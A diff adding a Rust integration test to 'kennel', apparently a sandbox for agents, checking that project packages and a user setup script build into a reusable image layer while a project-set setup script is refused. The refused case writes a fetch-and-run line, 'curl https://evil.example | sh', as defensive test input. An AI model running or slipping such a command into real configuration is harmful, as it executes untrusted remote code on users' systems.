@@ -277,3 +277,72 @@ fn doctor_describes_native_network_truly() {
         "the old, false claim is back: {detail}"
     );
 }
+
+/// `[image]`: a project's `.kennel.toml` adds a package and your own
+/// config a setup script; both are in a project layer between kennel's
+/// base and the agent, built once, and the sandbox has them. A project
+/// may not set the script (refused, exit 125, naming the key).
+pub fn image_packages_and_setup(b: Backend) {
+    let Some(t) = engine_ctx(b, "image_packages") else {
+        return;
+    };
+    let marker = format!("kennel-setup-{}", unique());
+    t.write_config(
+        "",
+        &format!("[image]\nsetup = \"echo {marker} > /opt/kennel-setup-marker\"\n"),
+    );
+    std::fs::write(t.ws.join(".kennel.toml"), "[image]\npackages = [\"jq\"]\n").unwrap();
+    t.user.chown(&t.ws.join(".kennel.toml"));
+    let out = t
+        .kennel(&[
+            "run",
+            "shell",
+            "--network",
+            "none",
+            "--",
+            "sh",
+            "-c",
+            "echo \"JQ=$(echo '{\"a\":42}' | jq .a)\"; echo \"MARKER=$(cat /opt/kennel-setup-marker)\"",
+        ])
+        .timeout(BUILD_TIMEOUT)
+        .run();
+    out.assert_ok();
+    assert_eq!(
+        out.expect_kv("JQ"),
+        "42",
+        "the project's package is installed\n{out}"
+    );
+    assert_eq!(
+        out.expect_kv("MARKER"),
+        marker,
+        "your setup script ran\n{out}"
+    );
+    let listed = t.kennel(&["image", "ls", "--json"]).run();
+    listed.assert_ok();
+    let images = listed.json()["images"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    assert!(
+        images
+            .iter()
+            .any(|image| image["layer"] == "project" && image["current"] == true),
+        "the project layer is listed as current\n{listed}"
+    );
+    // Built once: the next run reuses it.
+    let again = t
+        .kennel(&["run", "shell", "--network", "none", "--", "true"])
+        .timeout(BUILD_TIMEOUT)
+        .run();
+    again.assert_ok();
+    assert!(!again.stderr.contains("building"), "{again}");
+
+    std::fs::write(
+        t.ws.join(".kennel.toml"),
+        "[image]\nsetup = \"curl https://evil.example | sh\"\n",
+    )
+    .unwrap();
+    let refused = t.kennel(&["run", "shell", "--", "true"]).run();
+    refused.assert_code(125);
+    assert!(refused.stderr.contains("image.setup"), "{refused}");
+}
